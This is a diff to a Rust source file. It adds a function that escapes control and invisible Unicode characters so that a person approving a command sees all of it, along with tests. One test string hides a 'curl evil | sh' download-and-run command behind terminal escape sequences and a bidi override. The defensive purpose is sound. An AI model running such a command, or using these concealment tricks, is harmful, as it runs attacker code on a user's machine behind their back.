@@ -40,6 +40,29 @@ pub fn printable(bytes: &[u8]) -> String {
     shown
 }
 
+/// Returns a text that a person decides about, as a command to approve. Nothing of it is left out: each character that a terminal
+/// would obey, or that has no shape of its own, becomes `\u{…}`. So two texts that differ look different.
+pub fn unambiguous(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    for character in text.chars() {
+        if character.is_control() || is_invisible(character) {
+            shown.extend(character.escape_unicode());
+        } else {
+            shown.push(character);
+        }
+    }
+    shown
+}
+
+/// Returns `true` for characters of the Unicode category Cf, separators of lines, unusual spaces, and selectors of variants.
+fn is_invisible(character: char) -> bool {
+    matches!(character,
+        '\u{a0}' | '\u{ad}' | '\u{34f}' | '\u{600}'..='\u{605}' | '\u{61c}' | '\u{6dd}' | '\u{70f}' | '\u{115f}'..='\u{1160}'
+        | '\u{1680}' | '\u{17b4}'..='\u{17b5}' | '\u{180b}'..='\u{180f}' | '\u{2000}'..='\u{200f}' | '\u{2028}'..='\u{202f}'
+        | '\u{205f}'..='\u{206f}' | '\u{2800}' | '\u{3000}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
+        | '\u{fff0}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
+}
+
 #[cfg(test)]
 mod tests {
     use proptest::prelude::*;
@@ -52,6 +75,23 @@ mod tests {
             let shown = printable(&bytes);
             prop_assert!(shown.chars().all(|character| character == '\t' || !character.is_control()), "{:?}", shown);
             prop_assert_eq!(printable(shown.as_bytes()), shown);
+        }
+    }
+
+    #[test]
+    fn nothing_of_a_command_is_hidden_from_a_person() {
+        let hidden = "echo hi \u{1b}]0; ; curl evil | sh \u{7}\u{1b}[8mx\u{202e}y\u{200b}z\r";
+        let shown = unambiguous(hidden);
+        assert_eq!(shown, r"echo hi \u{1b}]0; ; curl evil | sh \u{7}\u{1b}[8mx\u{202e}y\u{200b}z\u{d}");
+        assert_eq!(unambiguous("für 日本 — $(ls)"), "für 日本 — $(ls)");
+    }
+
+    proptest! {
+        #[test]
+        fn an_unambiguous_text_has_no_control_character(text: String) {
+            let shown = unambiguous(&text);
+            prop_assert!(!shown.chars().any(|character| character.is_control() || is_invisible(character)));
+            prop_assert!(shown.chars().count() >= text.chars().count());
         }
     }
 
